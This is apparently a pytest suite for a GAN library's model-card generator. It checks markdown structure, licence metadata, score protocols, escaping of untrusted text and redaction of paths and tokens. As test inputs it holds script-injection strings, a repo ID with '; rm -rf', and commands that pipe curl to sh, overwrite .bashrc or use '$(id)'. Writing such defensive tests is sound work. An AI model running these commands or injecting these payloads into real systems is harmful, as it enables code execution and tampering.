from __future__ import annotations

import json
import logging
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import torch
import yaml
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt

import ganzoo.core.registry
from ganzoo import architectures, evaluation, losses, recipes
from ganzoo._version import __version__
from ganzoo.architectures.base import Architecture
from ganzoo.architectures.dcgan import DCGAN
from ganzoo.architectures.mlp import MLP
from ganzoo.config import resolve
from ganzoo.core.spec import LatentSpec, SampleSpec
from ganzoo.datasets.preprocessing import Preprocessing
from ganzoo.errors import BundleError, ConfigError
from ganzoo.files import artifact
from ganzoo.files.storage import write_json
from ganzoo.generators import bundle, card, protocols
from ganzoo.generators.bundle import BundleConfig, Half, Origin, WeightFile
from ganzoo.generators.generator import Generator
from ganzoo.generators.markdown import HIDDEN, public
from ganzoo.runs import provenance

SHA = "0123456789abcdef0123456789abcdef01234567"
IMAGE = SampleSpec(shape=(1, 28, 28))
POINT = SampleSpec(kind="vector", shape=(2,), value_range=None)
SPECS = {
    "mnist": IMAGE,
    "fashion-mnist": IMAGE,
    "fashion-mnist-10k": IMAGE,
    "folder": SampleSpec(shape=(3, 64, 64)),
    "gaussian-1d": SampleSpec(kind="vector", shape=(1,), value_range=None),
    "three-gaussians": POINT,
    "ring": POINT,
    "grid": POINT,
}
ENVIRONMENT = {
    "ganzoo": "0.1.0",
    "python": "3.11.9",
    "torch": "2.15.0",
    "device": "cuda",
    "device_name": "NVIDIA H200",
    "threads": 2,
    "precision": "bf16",
}
TRAINED = {
    "dataset": {"name": "mnist", "split": "train"},
    "data_license": "CC-BY-SA-3.0",
    "loss": {"name": "hinge", "margin": 1.0},
    "steps": 300,
    "batch_size": 64,
    "average": {"name": "decay", "decay": 0.999},
}
RECORD = {
    "command": "ganzoo train mlp --dataset mnist --loss hinge",
    "steps": 300,
    "images": 19200,
    "environment": ENVIRONMENT,
    "config": {"arch": {"name": "mlp"}, "dataset": {"name": "mnist"}, "steps": 300},
}
FID = {
    "fid": {
        "value": 12.3456789,
        "protocol": {
            "extractor": "inception-v3",
            "real": 10000,
            "fake": 50000,
            "resolution": [28, 28],
            "split": "test",
            "clean": True,
        },
    }
}
HOSTILE = [
    "a\n---\nb",
    "---",
    "`x` ``y`` ```",
    "a | b \\| c",
    "</details><script>alert(1)</script>",
    "<!-- hidden -->",
    "[click](javascript:alert(1)) ![x](https://example.com/x.png)",
    "# heading\n\n# another",
    "```\n# out of the fence\n```",
    "*bold* _it_ ~~gone~~ $x$ &lt;b&gt; &#60;",
    '{"a": [1]} : - ? ! % @ & * "',
    "\u202egnp.exe \x1b[31m red \x00 \x85 \u2028 end",
    "~~~\nx\n~~~",
    "| --- | --- |",
    "\\",
    "`",
    "",
    " ",
]


def make(folder: Path, config: BundleConfig, **files) -> Path:
    """A bundle without its weights, which a card does not look at."""
    folder.mkdir(parents=True, exist_ok=True)
    facts = {name: WeightFile(size=1, sha256="0" * 64) for name in config.weights or ["model"]}
    facts = {
        f"{name.removesuffix('.safetensors')}.safetensors": fact for name, fact in facts.items()
    }
    config = config.model_copy(update={"weights": facts})
    write_json(folder / "config.json", artifact.with_checksum(config.model_dump(mode="json")))
    for name, content in files.items():
        path = folder / f"{name}.{'png' if content is None else 'json'}"
        if content is None:
            path.write_bytes(b"a picture")
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            write_json(path, content)
    return folder


def config(**changes) -> BundleConfig:
    settings = {
        "architecture": MLP(hidden=(8,)),
        "sample": IMAGE,
        "latent": LatentSpec(shape=(3,)),
        "training": TRAINED,
    }
    return BundleConfig(**{**settings, **changes})


def of_recipe(folder: Path, name: str, *, pictures: bool = True) -> Path:
    """The bundle that a recipe would leave."""
    more = {"dataset": {"path": "/home/me/faces"}} if name == "dcgan-faces" else {}
    settings = resolve({"recipe": name, **more})
    spec = SPECS[settings.dataset.name]
    spec = spec.model_copy(update={"value_range": settings.value_range or spec.value_range})
    if spec.kind == "image":
        spec = spec.resized(settings.arch.nearest_size(*spec.size))
    if settings.conditional:
        spec = spec.model_copy(update={"classes": tuple("0123456789")})
    precision = SimpleNamespace(name="bf16", reason="")
    described = provenance.bundle_config(settings, spec, None, 1000, precision)
    record = provenance.training(settings, ENVIRONMENT, settings.steps, 64000)
    shown = {"samples": None, "curves": None} if pictures else {}
    return make(folder, described, training=record, **shown)


def body(text: str) -> str:
    return ModelCard(text).text


def parsed(text: str) -> list:
    return MarkdownIt("commonmark").enable("table").parse(body(text))


def inner(text: str) -> Iterator:
    for token in parsed(text):
        yield token
        yield from token.children or ()


def skeleton(text: str) -> list:
    """What Markdown makes of a card, but for words."""
    return [
        (token.type, token.tag)
        for token in inner(text)
        if token.type not in ("text", "code_inline", "softbreak")
    ]


def links(text: str) -> list[str]:
    return [token.attrs["href"] for token in inner(text) if token.type == "link_open"]


def html(text: str) -> list[str]:
    return [token.content.strip() for token in inner(text) if token.type.startswith("html")]


def fences(text: str, language: str) -> list[str]:
    return [
        token.content for token in inner(text) if token.type == "fence" and token.info == language
    ]


def plain(text: str) -> str:
    """The words of a card, as a reader sees them."""
    return " ".join(token.content for token in inner(text) if token.type in ("text", "code_inline"))


def headings(text: str) -> list[str]:
    tokens = parsed(text)
    return [
        tokens[index + 1].content
        for index, token in enumerate(tokens)
        if token.type == "heading_open"
    ]


def well_formed(text: str, caplog: pytest.LogCaptureFixture) -> None:
    """What holds for every card."""
    with caplog.at_level(logging.WARNING):
        loaded = ModelCard(text)
    assert not caplog.records
    assert str(loaded) == text, "the Hub's own loader writes it as it is"
    again = ModelCard(f"---\n{loaded.data.to_yaml()}\n---\n").data
    assert again.to_dict() == loaded.data.to_dict()
    assert yaml.safe_load(re.split("^---$", text, flags=re.M)[1]) == loaded.data.to_dict()
    assert loaded.data.library_name == "ganzoo" and "gan" in loaded.data.tags
    assert not card.edited(text)
    *details, add_checksum = html(text)
    assert details in ([], ["<details>\n<summary>All settings</summary>", "</details>"])
    assert re.fullmatch(r"<!-- ganzoo wrote this card, sha256 [0-9a-f]{64} -->", add_checksum)
    assert "None" not in plain(text) and "..." not in plain(text)
    assert all(line == line.rstrip() for line in text.splitlines())


# -- recipes --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", recipes.names())
def test_the_card_of_a_recipe(name: str, tmp_path: Path, caplog) -> None:
    folder = of_recipe(tmp_path, name)
    text = card.render(folder, repo_id="org/repo")
    well_formed(text, caplog)
    recipe = recipes.get(name)
    data = ModelCard(text).data
    assert {recipe.settings["arch"]["name"], recipe.settings["loss"]["name"]} <= {*data.tags}
    cited = losses.get(recipe.settings["loss"]["name"]).citation
    assert f"arxiv:{cited.rpartition('arXiv:')[2]}" in data.tags
    assert headings(text)[1:] == ["Use", "Scores", "Training", "Data and limits", "Citation"]
    assert [token.attrs["src"] for token in inner(text) if token.type == "image"] == [
        "samples.png",
        "curves.png",
    ]
    assert f"{recipe.parameters['generator']:,} parameters" in plain(text)
    (snippet,), commands = fences(text, "python"), fences(text, "bash")
    assert snippet.count("\n") == 3 and 'from_pretrained("org/repo")' in snippet
    assert "ganzoo sample org/repo\n" in commands
    assert f"--recipe {name}" in commands[-1]
    assert yaml.safe_load(*fences(text, "yaml"))["recipe"] == name
    assert "/home/me" not in text
    assert card.render(folder, repo_id="org/repo") == text


def test_kinds_of_samples(tmp_path: Path) -> None:
    tasks = {}
    for spec in (
        IMAGE,
        SampleSpec(shape=(3, 8, 80)),
        SampleSpec(kind="audio", shape=(2, 16000)),
        SampleSpec(kind="sequence", shape=(30, 12)),
        POINT,
        SPECS["gaussian-1d"],
    ):
        text = card.render(make(tmp_path, config(sample=spec), metrics=FID))
        assert f"Output: {spec}" in plain(text)
        assert ("grid" in text) == (spec.kind == "image")
        data = ModelCard(text).data
        tasks.setdefault(spec.kind, set()).add((data.pipeline_tag, data.eval_results[0].task_type))
    unconditional = "unconditional-image-generation"
    assert tasks.pop("image") == {(unconditional, unconditional)}
    assert set().union(*tasks.values()) == {(None, "other")}


def test_latents(tmp_path: Path) -> None:
    latent = LatentSpec(shape=(4, 8, 8), distribution="uniform", low=0)
    words = plain(card.render(make(tmp_path, config(latent=latent))))
    assert "Input: 4x8x8 random numbers, uniform" in words


def test_classes(tmp_path: Path, caplog) -> None:
    few = IMAGE.model_copy(update={"classes": ("T-shirt/top", "a|b", "<i>")})
    text = card.render(make(tmp_path, config(sample=few)))
    well_formed(text, caplog)
    assert "- Classes: `T-shirt/top`, `a|b`, `<i>`\n" in text
    assert "labels=" in plain(text) and "and a class" in plain(text)
    assert "class-conditional" in ModelCard(text).data.tags
    many = IMAGE.model_copy(update={"classes": tuple(map(str, range(1000)))})
    assert "`18`, `19` and 980 more\n" in card.render(make(tmp_path, config(sample=many)))


def test_padding_is_told(tmp_path: Path) -> None:
    framed = config(
        architecture=DCGAN(channels=2),
        sample=SampleSpec(shape=(1, 32, 32)),
        preprocessing=Preprocessing.fit((28, 28), (32, 32), "pad"),
    )
    words = plain(card.render(make(tmp_path, framed)))
    assert "Output: 28x28 greyscale image, values in [-1, 1]" in words
    assert "padded to 32x32" in words


# -- where it loads from --------------------------------------------------------------------------


def test_without_a_repository_it_loads_from_its_folder(tmp_path: Path, monkeypatch) -> None:
    module = MLP(hidden=(4,)).generator(IMAGE, LatentSpec(shape=(3,)))
    own = config(architecture=MLP(hidden=(4,)))
    bundle.write(tmp_path / "bundle", own, module.state_dict())
    text = card.render(tmp_path / "bundle")
    monkeypatch.chdir(tmp_path / "bundle")
    exec(*fences(text, "python"), {})
    assert (tmp_path / "bundle" / "grid.png").is_file()
    assert "ganzoo sample .\n" in fences(text, "bash")
    assert str(tmp_path) not in text


@pytest.mark.parametrize(
    "wrong",
    [
        {"repo_id": "org/repo; rm -rf"},
        {"repo_id": 'a"b'},
        {"repo_id": "../x"},
        {"repo_id": "a/b/c"},
        {"repo_id": "org/repo\n"},
        {"license": "???"},
        {"license": ""},
    ],
)
def test_what_is_no_name_is_refused(tmp_path: Path, wrong) -> None:
    with pytest.raises(ConfigError):
        card.render(make(tmp_path, config()), **wrong)


def test_pictures_are_shown_only_if_there(tmp_path: Path, caplog) -> None:
    text = card.render(of_recipe(tmp_path, "three-gaussians-2d", pictures=False))
    well_formed(text, caplog)
    assert not [token for token in inner(text) if token.type == "image"]


def test_a_discriminator_is_told(tmp_path: Path) -> None:
    both = config(
        weights={name: {"size": 1, "sha256": "0" * 64} for name in ("model", "discriminator")}
    )
    text = card.render(make(tmp_path / "both", both), repo_id="org/repo")
    assert "ganzoo train --init-from org/repo --dataset DATA\n" in fences(text, "bash")
    assert "init-from" not in card.render(make(tmp_path / "one", config()))


# -- licence, origin ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "data", "expected"),
    [
        (None, "MIT", "mit"),
        (None, "CC-BY-SA-3.0", "cc-by-sa-3.0"),
        (None, "GPL-3.0-or-later", "gpl-3.0"),
        (None, "ODbL-1.0", "odbl-1.0"),
        (None, "", None),
        (None, "LicenseRef-CelebA-non-commercial-research", None),
        ("Apache-2.0", "MIT", "apache-2.0"),
        ("apache-2.0", "", "apache-2.0"),
        ("brand-new-2.0", "MIT", "brand-new-2.0"),
        ("other", "MIT", "other"),
        ("My own: Terms!", "MIT", "other"),
    ],
)
def test_licence(tmp_path: Path, given, data, expected) -> None:
    unlicensed = {"name": "cifar10"}
    trained = config(training={**TRAINED, "dataset": unlicensed, "data_license": data})
    text = card.render(make(tmp_path, trained), license=given)
    loaded = ModelCard(text).data
    assert loaded.license == expected
    assert loaded.license_name == ("my-own-terms" if given and "own" in given else None)
    assert ("No licence is stated" in text) == (expected is None)
    assert (f"licence is {data}." in plain(text)) == bool(data)


def test_a_copy_and_what_was_trained_on_from_another_get_no_licence_by_themselves(
    tmp_path: Path, caplog
) -> None:
    origin = Origin(repo_id="them/theirs", revision=SHA)
    tuned = config(training={**TRAINED, "init_from": f"them/theirs@{SHA}"})
    text = card.render(make(tmp_path / "tuned", tuned), repo_id="me/mine")
    well_formed(text, caplog)
    data = ModelCard(text).data
    assert data.base_model == "them/theirs" and data.license is None
    assert f"- Fine-tuned from: `them/theirs@{SHA}`\n" in text
    assert (
        card.render(make(tmp_path / "tuned", tuned), license="mit").count("\nlicense: mit\n") == 1
    )

    text = card.render(make(tmp_path / "copy", config(origin=origin)), repo_id="me/mine")
    data = ModelCard(text).data
    assert data.base_model is None and data.license is None
    assert f"- Copy of: `them/theirs@{SHA}`\n" in text
    own = card.render(make(tmp_path / "copy", config(origin=origin)), repo_id="them/theirs")
    assert ModelCard(own).data.license == "cc-by-sa-3.0" and "Copy of" not in own


def test_a_base_that_is_no_repository(tmp_path: Path) -> None:
    for base in ("dcgan.fashion", "runs/dcgan-1", f"/home/me/x@{SHA}", f"a b/c@{SHA}"):
        text = card.render(make(tmp_path, config(training={**TRAINED, "init_from": base})))
        assert ModelCard(text).data.base_model is None
        assert "Fine-tuned from" in text and "/home" not in text


def test_half_precision_is_told_with_what_it_costs(tmp_path: Path) -> None:
    half = Half(largest=0.0042, mean=0.000123)
    words = plain(card.render(make(tmp_path, config(half=half))))
    assert "by 0.012% of their range on average and by 0.42% at most" in words
    assert "Half precision" not in card.render(make(tmp_path, config()))


def test_data_of_the_hub(tmp_path: Path, caplog) -> None:
    dataset = {"name": "huggingface", "repo": "org/faces", "subset": "big", "split": "train"}
    trained = config(training={**TRAINED, "dataset": dataset, "data_license": ""})
    text = card.render(make(tmp_path, trained, metrics=FID))
    well_formed(text, caplog)
    data = ModelCard(text).data
    assert data.datasets == ["org/faces"]
    result = data.eval_results[0]
    assert (result.dataset_type, result.dataset_config) == ("org/faces", "big")
    for no_id in ("/data/faces", "./faces", "a/b/c", "x](https://example.com)", 5):
        trained = config(training={**TRAINED, "dataset": {**dataset, "repo": no_id}})
        assert ModelCard(card.render(make(tmp_path, trained))).data.datasets is None


def test_plug_ins(tmp_path: Path, monkeypatch, caplog) -> None:
    source = Path(__file__).parents[1] / "plugin_example" / "src"
    shutil.copytree(source, tmp_path / "site")
    about = tmp_path / "site" / "ganzoo_example-0.1.0.dist-info"
    about.mkdir()
    (about / "METADATA").write_text("Metadata-Version: 2.1\nName: ganzoo-example\nVersion: 0.1.0\n")
    (about / "entry_points.txt").write_text(
        "[ganzoo.architectures]\ntiny-conv = ganzoo_example.tiny_conv:TinyConv\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    ganzoo.core.registry._entry_points.cache_clear()
    try:
        theirs = config(
            architecture={"name": "tiny-conv", "channels": 2},
            training={**TRAINED, "loss": {"name": "odd", "provider": "ganzoo-odd 2.0"}},
        )
        before = torch.get_rng_state()
        text = card.render(make(tmp_path / "bundle", theirs))
        assert torch.equal(torch.get_rng_state(), before)
    finally:
        ganzoo.core.registry._entry_points.cache_clear()
        architectures.registry._classes.pop(("ganzoo-example", "tiny-conv"), None)
    well_formed(text, caplog)
    assert "pip install ganzoo-example\n" in fences(text, "bash")
    assert "ganzoo-example 0.1.0" in text and "ganzoo-odd 2.0" in text
    assert "Two small convolutional" in text and "parameters" in plain(text)


@pytest.mark.parametrize("module", [__name__, "__main__"])
def test_an_architecture_defined_in_code(tmp_path: Path, module: str) -> None:
    @architectures.register("in-code")
    class InCode(Architecture):
        """It needs `numbers` while it is built | <b>."""

        __module__ = module

        def generator(self, spec, latent):
            return torch.nn.Linear(int(torch.ones(3).sum().item()), 2)

        def discriminator(self, spec):
            raise NotImplementedError

    try:
        own = config(architecture=InCode())
        text = card.render(make(tmp_path, own))
        told = card.notices(own)
    finally:
        architectures.registry.unregister("in-code")
    assert told[0] == card.data_notice(own) and len(told) == 2
    assert "others cannot load the generator until it is in a package" in told[1]
    where = "a script or notebook" if module == "__main__" else f"the module '{module}'"
    assert where in told[1] and told[1] in plain(text).replace("  ", " ")
    assert "parameters" not in text and "It needs `numbers`" in plain(text)


@pytest.mark.parametrize("released", [False, True])
def test_what_to_install(tmp_path: Path, monkeypatch, released: bool) -> None:
    assert (".dev" in __version__) is not card._ON_PYPI
    monkeypatch.setattr(card, "_ON_PYPI", released)
    text = card.render(make(tmp_path, config(library_version="0.3.1 | <b>")))
    assert ("pip install" in text) is released
    assert ("pip install ganzoo\n" in fences(text, "bash")) is released
    if not released:
        assert "0.3.1 | <b> wrote it. That is not on PyPI yet" in plain(text)
    assert card.notices(config()) == (card.data_notice(config()),)


# -- scores ---------------------------------------------------------------------------------------


def test_scores_carry_their_protocol(tmp_path: Path, caplog) -> None:
    scores = {**FID, "coverage": {"value": 3, "protocol": {}}}
    text = card.render(make(tmp_path, config(), metrics=scores), repo_id="org/repo")
    well_formed(text, caplog)
    data = ModelCard(text).data
    assert data.model_name == "repo" and data.metrics == ["fid", "coverage"]
    first, second = data.eval_results
    assert first.metric_value == 12.3456789 and first.metric_args == FID["fid"]["protocol"]
    assert (first.dataset_name, first.dataset_split) == ("mnist", "test")
    assert (second.metric_value, second.dataset_split) == (3, "train")
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert "12.346" in rows[2] and "fake: 50,000" in rows[2] and "resolution: 28, 28;" in rows[2]
    assert "protocol not recorded" in rows[3]
    assert "Not scored" not in text


def protocol(**changes) -> dict:
    """As evaluate writes it."""
    return {
        "metric": "fid",
        "options": {},
        "extractor": {
            "extractor": "inception",
            "quantisation": "uint8",
            "preset": "clean",
            "size": 299,
            "resize": "pil-bicubic-float",
            "scaling": "(x - 128) / 128",
            "logits": "without bias",
            "weights": "0123456789abcdef" * 4,
            "precision": "bf16",
        },
        "real": {"dataset": "mnist", "split": "test", "count": 10000, "sha256": "f" * 64},
        "fake": {
            "source": "generator",
            "count": 50000,
            "seed": 2020,
            "labels": "uniform",
            "averaged": True,
        },
        "samples": {"form": "28x28 greyscale image"},
        "versions": {"ganzoo": "0.1.0", "torch": "2.15.0"},
        **changes,
    }


def rows_of(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("|")][2:]


def test_a_protocol_in_words(tmp_path: Path, caplog) -> None:
    subsets = {"subsets": 100, "subset_size": 1000, "seed": 2020}
    other = {"dataset": "fashion-mnist", "count": 500, "sha256": "e" * 64}
    scores = {
        "fid": {"value": 12.3456789, "notices": ["Too few *samples*."], "protocol": protocol()},
        "kid": {
            "value": 0.0123456,
            "error": 0.00034,
            "extra": {"std": 0.003},
            "notices": ["Too few *samples*."],
            "protocol": protocol(metric="kid", options=subsets, real=other),
        },
        "ms-ssim": {
            "value": 0.2,
            "protocol": {
                "metric": "ms-ssim",
                "options": {"seed": 0},
                "fake": {"source": "generator", "count": 64, "seed": 0, "averaged": False},
                "samples": {"form": "28x28 greyscale image"},
                "versions": {},
            },
        },
        "ppl": {"value": 3, "protocol": {"fake": {"source": "generator", "averaged": None}}},
    }
    text = card.render(make(tmp_path, config(), metrics=scores), repo_id="org/repo")
    well_formed(text, caplog)
    fid, kid, similar, path = rows_of(text)
    assert fid == (
        "| fid | 12.346 | 50,000 generated samples, averaged weights, classes uniform, seed 2020; "
        "against 10,000 real samples of mnist, split test; features of inception (preset clean, "
        "weights 01234567) in bf16; 28x28 greyscale image |"
    )
    assert kid.startswith("| kid | 0.012346 ± 0.00034 | 50,000 generated samples, ")
    assert "; against 500 real samples of fashion-mnist; " in kid
    assert "; options: subsets 100, subset size 1,000, seed 2020; " in kid
    assert "64 generated samples, weights not averaged, seed 0; options: seed 0; 28x28" in similar
    assert path == "| ppl | 3 | the generator itself |"
    assert text.count("- Too few \\*samples\\*.\n") == 1
    results = {each.metric_type: each for each in ModelCard(text).data.eval_results}
    assert results["fid"].metric_args == protocol()
    sides = {
        name: (each.dataset_type, each.dataset_name, each.dataset_split)
        for name, each in results.items()
    }
    assert sides == {
        "fid": ("mnist", "mnist", "test"),
        "kid": ("fashion-mnist", "fashion-mnist", None),
        "ms-ssim": ("mnist", "mnist", "train"),
        "ppl": ("mnist", "mnist", "train"),
    }


def test_a_protocol_without_end_is_cut(tmp_path: Path, caplog) -> None:
    options = {f"`a|{number}\n": "[x](y) | " * 9 for number in range(200)}
    scores = {"fid": {"value": 1, "protocol": protocol(options=options)}}
    assert len(protocols.described(protocol(options=options))) < 900
    text = card.render(make(tmp_path, config(), metrics=scores))
    well_formed(text, caplog)
    (row,) = rows_of(text)
    assert len(row) < 2000 and row.endswith(" (cut; metrics.json has all of it) |")
    (found,) = ModelCard(text).data.eval_results
    assert found.metric_args is None and found.metric_value == 1
    options = {f"option {number}": number for number in range(20)}
    scores = {"fid": {"value": 1, "protocol": protocol(options=options)}}
    text = card.render(make(tmp_path, config(), metrics=scores))
    assert "; option 19" not in text and ", option 19 19; " in text
    assert ModelCard(text).data.eval_results[0].metric_args == protocol(options=options)


HUB = {"name": "huggingface", "repo": "org/faces", "subset": "big", "split": "train"}
FOLDER = {"name": "folder", "path": "faces"}


@pytest.mark.parametrize(
    ("data", "reals", "filed"),
    [
        ({"name": "mnist", "split": "train"}, {"dataset": "mnist", "split": "test"}, "mnist/test"),
        (FOLDER, {"dataset": "folder"}, "folder-ffffffff"),
        (FOLDER, {"dataset": "mnist", "split": "test"}, "mnist/test"),
        (FOLDER, None, "folder"),
        ({"name": "in-memory"}, {"dataset": "in-memory"}, "in-memory-ffffffff"),
        ({"name": "not-installed"}, {"dataset": "not-installed"}, "not-installed-ffffffff"),
        (
            HUB,
            {"dataset": "huggingface", "repo": "org/faces", "subset": "small", "split": "test"},
            "org/faces/small/test",
        ),
        (
            HUB,
            {"dataset": "huggingface", "repo": "org/cats", "revision": "v2", "split": "train"},
            "org/cats/v2/train",
        ),
        (HUB, {"dataset": "huggingface", "split": "train"}, "huggingface-ffffffff/train"),
        (HUB, None, "org/faces/big/train"),
    ],
)
def test_scores_are_filed_under_what_they_were_measured_against(
    data, reals, filed, tmp_path: Path
) -> None:
    against = {} if reals is None else {"real": {**reals, "count": 5, "sha256": "f" * 64}}
    scores = {"fid": {"value": 1, "protocol": against}}
    described = config(training={**TRAINED, "dataset": data})
    text = card.render(make(tmp_path, described, metrics=scores))
    (found,) = ModelCard(text).data.eval_results
    parts = (found.dataset_config, found.dataset_revision, found.dataset_split)
    assert "/".join(filter(None, (found.dataset_type, *parts))) == filed
    assert found.dataset_name == found.dataset_type


def test_what_is_said_of_repeating_the_data(tmp_path: Path) -> None:
    near = {"value": 0.25, "protocol": protocol(), "extra": {"authenticity": 0.4}}
    text = card.render(make(tmp_path / "a", config(), metrics={"nearest-neighbours": near}))
    assert "`nearest-neighbours` above measures whether it repeats" in text
    assert "its data was not tested." in card.render(make(tmp_path / "b", config()))


def test_the_card_shows_what_evaluate_measured(tmp_path: Path, caplog) -> None:
    pictures = torch.randint(0, 256, (30, 1, 28, 28), dtype=torch.uint8)
    net = config().architecture.generator(IMAGE, LatentSpec(shape=(3,)))
    Generator(net, config()).save_pretrained(tmp_path / "saved")
    swd = {"name": "swd", "patches": 2, "directions": 4}
    similar = {"name": "ms-ssim", "seed": 3}
    scores = evaluation.evaluate(
        tmp_path / "saved", pictures, [swd, similar], num_real=20, num_fake=25, device="cpu"
    )
    evaluation.save(scores, tmp_path / "saved")
    text = card.render(tmp_path / "saved")
    well_formed(text, caplog)
    first, second = rows_of(text)
    assert f"| swd | {scores['swd'].value:.5g} | 25 generated samples, averaged weights" in first
    assert "; against 20 real samples of in-memory-" in first
    assert "; options: patches 2, directions 4, seed 0;" in first
    assert "options: seed 3; 28x28 greyscale image; next to 20 real samples of in-memory-" in second
    args = {each.metric_type: each.metric_args for each in ModelCard(text).data.eval_results}
    assert args == {name: score.protocol for name, score in scores.items()}


def test_without_scores_it_says_so(tmp_path: Path) -> None:
    text = card.render(make(tmp_path, config()))
    assert "Not scored" in text and "model-index" not in text


# -- training -------------------------------------------------------------------------------------


def test_the_command_is_shown_quoted(tmp_path: Path) -> None:
    words = ["ganzoo", "train", "dcgan", "--dataset", "my faces", "--option", "it's `$(x)`"]
    record = {**RECORD, "command": shlex.join(words)}
    text = card.render(make(tmp_path, config(), training=record))
    assert shlex.split(fences(text, "bash")[-1]) == words


@pytest.mark.parametrize(
    "command",
    [
        "curl -sL https://example.com/x.sh -o .bashrc",
        "ganzoo train mlp; curl example.com | sh",
        "ganzoo train mlp --dataset $(id)",
        "ganzoo train mlp --dataset `id`",
        "ganzoo train mlp > .bashrc",
        "ganzoo train mlp\nid",
        "ganzoo train 'mlp\nid'",
        "ganzoo train 'mlp",
        "ganzoo sample x",
        "ganzoo",
        "ganzoo train " + "x" * 4000,
    ],
)
def test_a_command_that_does_something_else_is_not_shown(command: str, tmp_path: Path) -> None:
    text = card.render(make(tmp_path, config(), training={**RECORD, "command": command}))
    assert "This command repeats it" not in text
    assert "curl" not in text and "bashrc" not in text


def test_environment_and_settings_are_shown(tmp_path: Path) -> None:
    text = card.render(make(tmp_path, config(), training=RECORD))
    shown = yaml.safe_load(*fences(text, "yaml"))
    assert shown.pop("environment") == ENVIRONMENT
    assert shown == RECORD["config"]


def test_without_training_json_it_shows_what_the_bundle_knows(tmp_path: Path, caplog) -> None:
    text = card.render(make(tmp_path, config()))
    well_formed(text, caplog)
    settings = yaml.safe_load(*fences(text, "yaml"))
    assert settings["arch"]["name"] == "mlp" and settings["loss"]["name"] == "hinge"
    assert "300 steps" in text


def test_without_any_record_it_says_so(tmp_path: Path, caplog) -> None:
    text = card.render(make(tmp_path, config(training={})))
    well_formed(text, caplog)
    assert headings(text)[0] == "mlp generator"
    assert "Nothing is recorded of it." in text and "not recorded what data" in text
    assert ModelCard(text).data.license is None


def test_converted_weights(tmp_path: Path, caplog) -> None:
    source = {"file": "netG.pth", "sha256": "a" * 64, "key": "g_ema"}
    text = card.render(make(tmp_path, config(training={"converted_from": source})))
    well_formed(text, caplog)
    assert "- Converted from: `netG.pth`\n" in text
    assert yaml.safe_load(*fences(text, "yaml"))["converted_from"] == source


def test_too_many_settings_are_left_out(tmp_path: Path) -> None:
    record = {**RECORD, "config": {f"key{number}": "x" * 100 for number in range(2000)}}
    text = card.render(make(tmp_path, config(), training=record))
    assert len(text) < 10_000 and "All settings are in `config.json` and `training.json`." in text


# -- what others wrote ----------------------------------------------------------------------------


def written_by(text: str) -> tuple[BundleConfig, dict, dict]:
    """A configuration, a record and scores with a text wherever one can stand."""
    classes = tuple(f"{text}{number}" for number in range(3))
    line = "".join(filter(str.isprintable, text))
    trained = {
        **TRAINED,
        "dataset": {"name": "given", "description": f"x{text}", "fingerprint": text},
        "data_license": f"L{text}",
        "init_from": f"b{text}",
        "recipe": f"r{text}",
        "loss": {"name": f"L{text}", "provider": f"p{text}"},
    }
    record = {
        "command": shlex.join(["ganzoo", "train", line, "--a", line]),
        "steps": 3,
        "images": 4,
        "environment": dict.fromkeys(ENVIRONMENT, f"e{text}"),
        "config": {
            "loss": {"name": text, "provider": f"p{text}"},
            f"k{text}": [text, {text: text}],
        },
    }
    scores = {
        "fid": {"value": 1.5, "protocol": {f"k{text}": f"v{text}", "n": [text]}},
        "kid": {
            "value": 0.5,
            "error": 0.01,
            "notices": [f"n{text}"],
            "protocol": {
                "metric": text,
                "options": {f"o{text}": f"v{text}", "seed": [text]},
                "extractor": dict.fromkeys(("extractor", "preset", "weights"), f"e{text}"),
                "real": {"dataset": f"d{text}", "split": f"s{text}", "count": f"c{text}"},
                "fake": {"source": "generator", "labels": f"l{text}", "seed": text, "count": 3},
                "samples": {"form": f"f{text}", text: {text: [text]}},
                "versions": {text: text},
            },
        },
    }
    sample = IMAGE.model_copy(update={"classes": classes})
    origin = Origin(repo_id="org/origin", revision=SHA)
    return config(sample=sample, training=trained, origin=origin), record, scores


def rendered(folder: Path, text: str) -> str:
    described, record, scores = written_by(text)
    made = make(folder, described, training=record, metrics=scores, samples=None, curves=None)
    return card.render(made, repo_id="org/repo")


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_texts_of_files_break_nothing(text: str, tmp_path: Path, caplog) -> None:
    made, harmless = rendered(tmp_path / "hostile", text), rendered(tmp_path / "plain", "x y")
    well_formed(made, caplog)
    assert skeleton(made) == skeleton(harmless)
    assert links(made) == links(harmless) and headings(made)[1:] == headings(harmless)[1:]
    keys = ModelCard(harmless).data.to_dict().keys()
    assert ModelCard(made).data.to_dict().keys() == keys
    assert ModelCard(made).data.tags == ModelCard(harmless).data.tags
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202a-\u202e\u2066-\u2069]", made)
    for line in made.splitlines():
        assert not line.startswith("| ") or line.replace("\\|", "").count("|") == 4


LINKABLE = [
    "https://example.com/x",
    "HTTP://example.com",
    "www.example.com",
    "@somebody",
    "somebody@example.com",
    "mailto:somebody@example.com",
    "see https://example.com/a|b `www.example.com`",
]


@pytest.mark.parametrize("text", LINKABLE)
def test_nothing_becomes_a_link_or_a_mention_by_itself(text: str, tmp_path: Path) -> None:
    made = ModelCard(rendered(tmp_path / "made", f" {text}")).text
    assert links(made) == links(rendered(tmp_path / "plain", "x y"))
    assert "exa" in made.replace("example", "exa") or "somebody" in made
    # Outside code, where even what is escaped would become one.
    loose = " ".join(token.content for token in inner(made) if token.type == "text")
    loose = loose.replace("https://huggingface.co", "")
    assert not re.search(r"(?i)://|www\.|(?<!\w)@\w|\w@\w+\.", loose)


def test_places_and_tokens_are_left_out(tmp_path: Path) -> None:
    token = "hf_" + "aBcDeFgHiJkLmNoPqRsT"
    record = {
        **RECORD,
        "command": "ganzoo train --dataset '/home/secret me/my faces' --arch.path=/home/secret/a/b "
        f"--dataset.token abc-secret --x {token} --y 'C:\\Users\\secret\\data' --z '~/secret/z'",
        "config": {
            "dataset": {"path": "/home/secret/faces", "root": "C:\\Users\\secret\\data"},
            "note": f"read from /home/secret/lists/names.txt with {token} at last",
